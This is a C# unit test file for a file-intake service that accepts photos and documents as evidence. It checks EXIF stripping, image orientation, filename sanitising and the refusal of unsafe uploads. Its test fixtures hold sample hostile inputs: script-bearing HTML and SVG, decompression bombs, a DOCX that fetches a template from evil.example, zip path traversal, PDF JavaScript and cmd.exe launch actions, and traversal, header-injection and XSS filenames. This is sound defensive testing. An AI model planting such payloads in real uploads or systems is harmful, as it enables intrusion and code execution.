using System.Text;
using Atkaruu.Data;
using Atkaruu.Kernel;
using Atkaruu.Modules.Evidence;
using Atkaruu.Tests.Intake.Files;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using SkiaSharp;

namespace Atkaruu.Tests.Evidence;

public class EvidenceIntakeTests : IAsyncLifetime
{
    private App _app = null!;
    private EvidenceOwner _owner = null!;

    public async ValueTask InitializeAsync()
    {
        _app = await App.StartAsync();
        _owner = (await _app.ReturnAsync(await _app.MeasureAsync("RMA"), "RMA", Cast.AdministrationReporter)).Owner();
    }

    public ValueTask DisposeAsync() => _app.DisposeAsync();

    [Fact]
    public async Task A_photograph_is_kept_as_sent_and_a_copy_without_place_and_time_is_made()
    {
        var sent = MakePhoto.WithExif(MakePhoto.Jpeg(3000, 2000));

        var item = await TakeAsync(sent);

        Assert.Equal((FileKind.Photo, "image/jpeg", 3000, 2000), (item.Kind, item.ContentType, item.Width, item.Height));
        Assert.Equal((39.5561, 72.2094), (Math.Round(item.Latitude!.Value, 4), Math.Round(item.Longitude!.Value, 4)));
        Assert.Equal((PositionSource.Exif, new DateTime(2026, 10, 12, 8, 5, 0, DateTimeKind.Utc)), (item.PositionFrom!.Value, item.TakenAt!.Value));
        Assert.Equal(sent, await BytesAsync(item.Hash));
        Assert.Equal(["evidence.added"], await _app.WhatHappenedToAsync(item));

        foreach (var (hash, side) in new[] { (item.PublicHash!, 2400), (item.ThumbHash!, 480) })
        {
            var copy = await BytesAsync(hash);
            using var picture = SKBitmap.Decode(copy);
            Assert.Equal((side, side * 2 / 3), (picture.Width, picture.Height));
            Assert.DoesNotContain("Exif", Encoding.Latin1.GetString(copy), StringComparison.Ordinal);
            Assert.DoesNotContain("SecretCam", Encoding.Latin1.GetString(copy), StringComparison.Ordinal);
            Assert.Equal(-1, copy.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xE1])); // no APP1 at all
        }
    }

    [Theory]
    [InlineData("png", "image/png", "сүрөт.png")]
    [InlineData("webp", "image/webp", "сүрөт.webp")]
    public async Task Other_pictures_are_taken_by_content_whatever_the_name_says(string kind, string type, string name)
    {
        var item = await TakeAsync(kind == "png" ? MakePhoto.Png() : MakePhoto.WebP(), "сүрөт.docx");

        Assert.Equal((type, name, FileKind.Photo), (item.ContentType, item.FileName, item.Kind));
        Assert.NotNull(item.PublicHash);
    }

    [Theory]
    [InlineData(1), InlineData(2), InlineData(3), InlineData(4), InlineData(5), InlineData(6), InlineData(7), InlineData(8)]
    public async Task A_picture_is_turned_the_right_way_up(int orientation)
    {
        // as the sensor lay: red, green / white, blue – top left, top right / bottom left, bottom right
        using var bitmap = new SKBitmap(400, 200);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(SKColors.Red);
            canvas.DrawRect(200, 0, 200, 100, new SKPaint { Color = SKColors.Lime });
            canvas.DrawRect(0, 100, 200, 100, new SKPaint { Color = SKColors.White });
            canvas.DrawRect(200, 100, 200, 100, new SKPaint { Color = SKColors.Blue });
        }
        using var jpeg = bitmap.Encode(SKEncodedImageFormat.Jpeg, 95);

        var item = await TakeAsync(MakePhoto.WithExif(jpeg.ToArray(), orientation));

        using var shown = SKBitmap.Decode(await BytesAsync(item.PublicHash!));
        Assert.Equal(orientation >= 5 ? (200, 400) : (400, 200), (shown.Width, shown.Height));
        Assert.Equal((shown.Width, shown.Height), (item.Width, item.Height));
        Assert.Equal((ExpectedCorner(orientation, false), ExpectedCorner(orientation, true)), (Colour(shown.GetPixel(20, 20)), Colour(shown.GetPixel(shown.Width - 20, 20))));
    }

    [Fact]
    public async Task The_position_of_the_device_counts_only_for_a_picture_taken_in_the_form()
    {
        var here = new Shot("Мектептин чатыры", 39.6, 72.3, 12, FromCamera: true, new(2026, 11, 22, 2, 55, 0, DateTimeKind.Utc));

        var taken = await TakeAsync(MakePhoto.Jpeg(seed: 1), shot: here);
        var chosen = await TakeAsync(MakePhoto.Jpeg(seed: 2), shot: here with { FromCamera = false });
        var nonsense = await TakeAsync(MakePhoto.Jpeg(seed: 3), shot: here with { Latitude = double.NaN, TakenAt = new(2031, 1, 1, 0, 0, 0, DateTimeKind.Utc) });

        Assert.Equal((39.6, 12, PositionSource.Device, true), (taken.Latitude, taken.Accuracy, taken.PositionFrom!.Value, taken.FromCamera));
        Assert.Equal("Мектептин чатыры", taken.Caption);
        Assert.Null(chosen.Latitude);
        Assert.Null(nonsense.Latitude);
        Assert.Null(nonsense.TakenAt);
    }

    [Fact]
    public async Task Documents_are_taken_after_a_look_inside()
    {
        var word = await TakeAsync(MakeZip.Word("<document/>"), "буйрук.docx");
        var sheet = await TakeAsync(MakeZip.Sheet("<worksheet/>"u8.ToArray()), "эсеп");
        var pdf = await TakeAsync(Pdf("/Type /Catalog"), "акт.pdf");

        Assert.Equal(["буйрук.docx", "эсеп.xlsx", "акт.pdf"], [word.FileName, sheet.FileName, pdf.FileName]);
        Assert.All([word, sheet, pdf], item => Assert.Equal((FileKind.Document, null, null), (item.Kind, item.PublicHash, item.ThumbHash)));
    }

    [Theory]
    [InlineData("empty", "evidence.rule.empty")]
    [InlineData("html", "evidence.rule.kind")]
    [InlineData("svg", "evidence.rule.kind")]
    [InlineData("zip", "evidence.rule.kind")]
    [InlineData("gif", "evidence.rule.kind")]
    [InlineData("exe", "evidence.rule.kind")]
    [InlineData("heic", "evidence.rule.heic")]
    [InlineData("png-bomb", "evidence.rule.pixels")]
    [InlineData("jpeg-bomb", "evidence.rule.pixels")]
    [InlineData("jpeg-truncated", "evidence.rule.damaged")]
    [InlineData("png-truncated", "evidence.rule.damaged")]
    [InlineData("jpeg-only-magic", "evidence.rule.damaged")]
    [InlineData("jpeg-scans", "evidence.rule.damaged")]
    [InlineData("large", "evidence.rule.size")]
    [InlineData("docx-macro", "intake.macros")]
    [InlineData("docx-fetching", "intake.external")]
    [InlineData("docx-object", "evidence.rule.active")]
    [InlineData("docx-traversal", "intake.bad-names")]
    [InlineData("docx-bomb", "intake.bomb")]
    [InlineData("docx-locked", "intake.encrypted")]
    [InlineData("docx-truncated", "intake.damaged")]
    [InlineData("pdf-script", "evidence.rule.active")]
    [InlineData("pdf-escaped", "evidence.rule.active")]
    [InlineData("pdf-packed", "evidence.rule.active")]
    [InlineData("pdf-launch", "evidence.rule.active")]
    [InlineData("pdf-embedded", "evidence.rule.embedded")]
    [InlineData("pdf-locked", "evidence.rule.locked")]
    [InlineData("pdf-truncated", "evidence.rule.damaged")]
    public async Task What_is_not_what_it_says_or_would_do_harm_is_refused(string what, string why)
    {
        var refused = await Assert.ThrowsAsync<RuleException>(() => TakeAsync(Hostile(what), "photo.jpg"));

        Assert.Equal(("evidence.refused", "Files"), (refused.Sentence.Key, refused.Input));
        Assert.Equal(why, Assert.IsType<Message>(refused.Sentence.Args[1]).Key);
        Assert.False(await _app.InDbAsync(db => db.Evidence.AnyAsync()));
        Assert.Empty(KeptFiles());
    }

    [Fact]
    public async Task Whatever_else_a_picture_is_does_not_come_over_into_its_copies()
    {
        byte[] polyglot = [.. MakePhoto.Jpeg(), .. "<html><script>alert(1)</script></html>"u8, .. MakeZip.Word("<document/>")];

        var item = await TakeAsync(polyglot, "photo.html");

        Assert.Equal(("image/jpeg", "photo.jpg"), (item.ContentType, item.FileName));
        Assert.All([item.PublicHash!, item.ThumbHash!], hash => Assert.DoesNotContain("<script>", Encoding.Latin1.GetString(BytesAsync(hash).Result), StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("../../etc/passwd.jpg", "passwd.jpg")]
    [InlineData("..\\..\\windows\\win.ini", "win.jpg")]
    [InlineData("a\0b.jpg", "ab.jpg")]
    [InlineData("invoice\u202Egpj.exe", "invoicegpj.jpg")]
    [InlineData("a\r\nContent-Type: text/html\r\n.jpg", "html.jpg")]
    [InlineData("<img src=x onerror=alert(1)>.jpg", "img src_x onerror_alert(1).jpg")]
    [InlineData("con.jpg", "_con.jpg")]
    [InlineData("....", "file.jpg")]
    [InlineData("", "file.jpg")]
    [InlineData("Ңң Өө Үү – мектеп.JPEG", "Ңң Өө Үү – мектеп.jpg")]
    [InlineData("x.php.phtml.jpg", "x.jpg")]
    public void Names_are_made_harmless(string sent, string kept) => Assert.Equal(kept, SafeName.Of(sent, ".jpg"));

    [Fact]
    public void Long_names_are_cut_between_letters()
    {
        Assert.Equal(100, SafeName.Of(new string('ө', 5000) + ".jpg", ".jpg").Length);
        Assert.EndsWith("😀.jpg", SafeName.Of(string.Concat(Enumerable.Repeat("😀", 300)), ".jpg"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_same_file_sent_twice_is_one_item()
    {
        var first = await TakeAsync(MakePhoto.Jpeg());
        var second = await TakeAsync(MakePhoto.Jpeg(), "other-name.jpg");

        Assert.Equal(first.Id, second.Id);
        Assert.Equal(1, await _app.InDbAsync(db => db.Evidence.CountAsync()));
    }

    [Fact]
    public async Task A_return_has_no_more_than_twenty_files()
    {
        for (var i = 0; i < 20; i++) await TakeAsync(Pdf($"/Number {i}"), "акт.pdf");

        var refused = await Assert.ThrowsAsync<RuleException>(() => TakeAsync(Pdf("/Number 20"), "акт.pdf"));
        Assert.Equal("evidence.rule.count", refused.Sentence.Key);
    }

    [Fact]
    public async Task Nothing_is_taken_when_the_disk_is_nearly_full()
    {
        var disk = _app.Services.GetRequiredService<DiskReserve>();
        (disk.Ask, var usual) = (() => new(100L << 20, 100L << 30), disk.Ask);
        disk.Forget();

        await Assert.ThrowsAsync<DiskFullException>(() => TakeAsync(MakePhoto.Jpeg()));
        Assert.Empty(KeptFiles());

        disk.Ask = usual;
        disk.Forget();
        Assert.NotNull(await TakeAsync(MakePhoto.Jpeg()));
    }

    [Theory]
    [InlineData(1L << 40, 2L << 30)]
    [InlineData(10L << 30, 512L << 20)]
    [InlineData(1L << 30, 200L << 20)]
    [InlineData(8L << 20, 2L << 20)]
    public void The_reserve_fits_the_disk(long total, long reserve) => Assert.Equal(reserve, DiskReserve.Of(total));

    [Fact]
    public async Task A_large_photograph_is_made_small_without_much_memory()
    {
        var before = Environment.WorkingSet;
        var large = MakePhoto.Jpeg(7000, 7000, quality: 60);
        var making = Environment.WorkingSet - before; // what the test itself takes to draw it
        await TakeAsync(large);
        Assert.True(Environment.WorkingSet - before - making < 150L << 20, $"{(Environment.WorkingSet - before - making) >> 20} MB");
    }

    private Task<EvidenceItem> TakeAsync(byte[] bytes, string name = "photo.jpg", Shot? shot = null) => _app.TakeAsync(Cast.AdministrationReporter, _owner, bytes, name, shot);

    private async Task<byte[]> BytesAsync(string hash)
    {
        await using var file = await _app.Services.GetRequiredService<EvidenceFiles>().OpenAsync(hash, default);
        using var bytes = new MemoryStream();
        await file!.CopyToAsync(bytes);
        return bytes.ToArray();
    }

    private string[] KeptFiles() => Path.Combine(_app.DataFolder, "evidence") is var folder && Directory.Exists(folder) ? Directory.GetFiles(folder, "*", SearchOption.AllDirectories) : [];

    private static char Colour(SKColor c) => (c.Red > 128, c.Green > 128, c.Blue > 128) switch { (true, true, true) => 'w', (true, false, false) => 'r', (false, true, false) => 'g', _ => 'b' };

    /// <summary>By the EXIF standard: which corner of the sensor is seen at the top left and at the top right.</summary>
    private static char ExpectedCorner(int orientation, bool right) => (orientation, right) switch
    {
        (1, false) => 'r', (1, true) => 'g',
        (2, false) => 'g', (2, true) => 'r',
        (3, false) => 'b', (3, true) => 'w',
        (4, false) => 'w', (4, true) => 'b',
        (5, false) => 'r', (5, true) => 'w',
        (6, false) => 'w', (6, true) => 'r',
        (7, false) => 'b', (7, true) => 'g',
        (8, false) => 'g', (_, _) => 'b',
    };

    internal static byte[] Pdf(string objects) => Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj\n<< {objects} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    private static byte[] Hostile(string what) => what switch
    {
        "empty" => [],
        "html" => "<!doctype html><script>alert(1)</script>"u8.ToArray(),
        "svg" => "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"u8.ToArray(),
        "zip" => MakeZip.Of(MakeZip.Text("readme.txt", "x")),
        "gif" => [.. "GIF89a"u8, .. new byte[100]],
        "exe" => [.. "MZ"u8, .. new byte[500]],
        "heic" => [0, 0, 0, 24, .. "ftypheic"u8, .. new byte[100]],
        "png-bomb" => MakePhoto.PngBomb(),
        "jpeg-bomb" => JpegOf(65_000, 65_000),
        "jpeg-truncated" => MakePhoto.Jpeg()[..8000],
        "png-truncated" => MakePhoto.Png()[..3000],
        "jpeg-only-magic" => [0xFF, 0xD8, 0xFF, 0xE0],
        "jpeg-scans" => [.. MakePhoto.Jpeg(), .. Enumerable.Repeat<byte[]>([0xFF, 0xDA], 500).SelectMany(b => b)],
        "large" => [.. MakePhoto.Jpeg(), .. new byte[15 << 20]],
        "docx-macro" => MakeZip.Word("<document/>", new MakeZip.Entry("word/vbaProject.bin", [1, 2, 3])),
        "docx-fetching" => MakeZip.Word("<document/>", MakeZip.Text("word/_rels/document.xml.rels", """<Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>""")),
        "docx-object" => MakeZip.Word("<document/>", new MakeZip.Entry("word/embeddings/oleObject1.bin", [1, 2, 3])),
        "docx-traversal" => MakeZip.Word("<document/>", MakeZip.Text("../../evil.xml", "x")),
        "docx-bomb" => MakeZip.Word("<document/>", new MakeZip.Entry("word/media/a.xml", new byte[50 << 20])),
        "docx-locked" => MakeZip.Word("<document/>", new MakeZip.Entry("word/a.xml", [1], Encrypted: true)),
        "docx-truncated" => MakeZip.Word("<document/>")[..200],
        "pdf-script" => Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf-escaped" => Pdf("/OpenAction << /S /J#61vaScript >>"),
        "pdf-packed" => PackedPdf("<< /S /JavaScript >>"),
        "pdf-launch" => Pdf("/A << /S /Launch /F (cmd.exe) >>"),
        "pdf-embedded" => Pdf("/Names << /EmbeddedFiles 2 0 R >>"),
        "pdf-locked" => Pdf("/Encrypt 2 0 R"),
        "pdf-truncated" => [.. "%PDF-1.7\n"u8, .. new byte[5000]],
        _ => throw new ArgumentOutOfRangeException(nameof(what)),
    };

    private static byte[] JpegOf(int width, int height)
    {
        var jpeg = MakePhoto.Jpeg();
        var at = jpeg.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xC0]);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(at + 5), (ushort)height);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(at + 7), (ushort)width);
        return jpeg;
    }

    private static byte[] PackedPdf(string objects)
    {
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Optimal)) zlib.Write(Encoding.Latin1.GetBytes(objects));
        return [.. Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"), .. packed.ToArray(), .. "\nendstream\nendobj\n%%EOF\n"u8];
    }
}
